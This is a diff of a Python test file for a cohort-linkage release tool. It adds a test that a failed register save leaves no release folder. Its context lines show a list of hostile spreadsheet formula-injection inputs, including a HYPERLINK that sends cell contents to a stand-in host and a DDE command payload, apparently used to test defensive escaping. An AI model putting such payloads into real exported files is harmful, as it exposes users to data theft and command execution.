@@ -113,6 +113,22 @@ def test_release_register_refuses_the_second_release_and_writes_nothing(two_ends
     assert "person-" not in reg.read_text()  # fingerprints only, never the VRN's person ids
 
 
+def test_a_register_that_cannot_be_saved_leaves_no_release_behind(two_ends, monkeypatch):
+    """The release is registered before its folder is committed: no release the register does not know."""
+    from linkage.cohort.register import ReleaseRegister
+
+    root, link, dirs, d0, _ = two_ends
+
+    def fail(self):
+        raise OSError("disk full")
+
+    monkeypatch.setattr(ReleaseRegister, "_save", fail)
+    with pytest.raises(OSError):
+        build_cohort(config(root, "rc", end=d0), link, dirs, root / "rc", quiet=True,
+                     register=root / "vrn2" / "register.json")
+    assert not (root / "rc").exists()
+
+
 HOSTILE = ['=HYPERLINK("http://x.example/?"&A1,"click")', "+cmd|' /C calc'!A0", "@SUM(1+1)", "-2+3",
            "Somewhere free text"]
 
